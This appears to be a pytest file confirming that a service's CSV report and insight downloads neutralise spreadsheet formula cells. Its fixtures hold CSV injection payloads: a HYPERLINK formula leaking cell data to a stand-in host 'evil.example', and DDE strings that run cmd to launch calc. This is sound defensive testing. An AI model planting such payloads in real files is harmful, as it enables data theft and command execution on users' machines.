"""Every CSV the service writes neutralises formula cells (OWASP CSV injection rule, app/core/csv_export.py).

A contributor, team, account, owner and title that a spreadsheet would run as a formula go through each CSV
endpoint: the API's reports and recognition statements and the web app's insight downloads.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from app.core.csv_export import FORMULA_TRIGGERS, safe_cell, to_csv
from tests.api.helpers import reports_current
from tests.conftest import signal_body
from tests.web.helpers import LOOPBACK, sign_in

NAME = '=HYPERLINK("http://evil.example/steal?x="&A1,"open")'
TEAM = "+team-cmd|' /C calc'!A0"
ACCOUNT = "@SUM(1+1)*cmd|' /C calc'!A0"
OWNER = "-2+3+cmd|' /C calc'!A0"
TITLE = "\t=1+1 looks like a title"
PERIOD = {"from": (datetime.now(UTC) - timedelta(days=60)).date().isoformat()}


class TestSafeCell:
    @pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
    def test_a_cell_starting_with_a_trigger_is_prefixed_with_a_quote(self, text: str) -> None:
        assert safe_cell(text) == "'" + text

    @pytest.mark.parametrize("value", ["Anna Berg", "a=b", "", "'=already text", 12, -3.5, "-12.50", "+7"])
    def test_other_cells_and_plain_numbers_are_unchanged(self, value: object) -> None:
        assert safe_cell(value) == value

    def test_none_is_an_empty_cell_and_the_header_is_written_without_rows(self) -> None:
        assert to_csv([{"a": None, "b": "=x"}], ["a", "b"]) == "a,b\n,'=x\n"
        assert to_csv([], ["a", "b"]) == "a,b\n"


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with a trigger and not a plain number."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_TRIGGERS) and safe_cell(cell) != cell
    ]


@pytest.fixture
def hostile(client: TestClient, auth: dict[str, str]) -> None:
    """One account, contributor and opportunity whose text is all formulas, observed 30 days ago (ageing)."""
    account = {"crm_id": "EVIL-1", "name": ACCOUNT, "owner": OWNER, "domains": ["evil.example"]}
    r = client.post("/v1/accounts/import", json={"accounts": [account]}, headers=auth)
    assert r.status_code == 200, r.text
    body = signal_body(
        contributor={"email": "mallory@ourco.se", "name": NAME, "function": "support", "team": TEAM},
        customer={"crm_account_id": "EVIL-1"},
        title=TITLE,
        observed_at=(datetime.now(UTC) - timedelta(days=30)).isoformat(),
    )
    r = client.post("/v1/signals", json=body, headers=auth)
    assert r.status_code == 201, r.text
    reports_current(client)


API_CSVS = [
    ("/v1/reports/contributions", {"group_by": "contributor"}, NAME),
    ("/v1/reports/contributions", {"group_by": "team"}, TEAM),
    ("/v1/reports/contributions", {"group_by": "account"}, ACCOUNT),
    ("/v1/reports/credit", {"group_by": "contributor"}, NAME),
    ("/v1/reports/participation", {"by": "team"}, TEAM),
    ("/v1/reports/concentration", {}, ACCOUNT),
    ("/v1/reports/ageing", {"sla_days": "0"}, OWNER),
    ("/v1/reports/adoption", {}, None),
    ("/v1/reports/recognition", {"contributor": "mallory@ourco.se"}, ACCOUNT),
    ("/v1/reports/recognition/team", {"team": TEAM}, NAME),
]


class TestEveryCsvEndpoint:
    @pytest.mark.parametrize(("path", "params", "shown"), API_CSVS, ids=[f"{p}?{q}" for p, q, _ in API_CSVS])
    def test_api_csv_neutralises_formula_cells(
        self,
        client: TestClient,
        auth: dict[str, str],
        hostile: None,
        path: str,
        params: dict[str, str],
        shown: str | None,
    ) -> None:
        r = client.get(path, params={**params, **PERIOD, "format": "csv"}, headers=auth)
        assert r.status_code == 200, r.text
        assert r.headers["content-type"].startswith("text/csv")
        assert formula_cells(r.text) == []
        if shown is not None:  # the hostile text is there, as text
            assert "'" + shown in [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]

    @pytest.mark.parametrize(
        ("name", "shown"),
        [
            ("participation", None),
            ("adoption", None),
            ("credit-by-function", None),
            ("credit-by-person", NAME),
            ("concentration", ACCOUNT),
            ("ageing", OWNER),
        ],
    )
    def test_web_insight_download_neutralises_formula_cells(
        self, client: TestClient, engine: sa.Engine, hostile: None, name: str, shown: str | None
    ) -> None:
        web = TestClient(client.app, base_url=LOOPBACK, raise_server_exceptions=False)
        sign_in(web, engine, "ulla@ourco.se", "admin")
        r = web.get(f"/app/insights/{name}.csv", params=PERIOD)
        assert r.status_code == 200, r.text
        assert formula_cells(r.text) == []
        if shown is not None:
            assert "'" + shown in [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
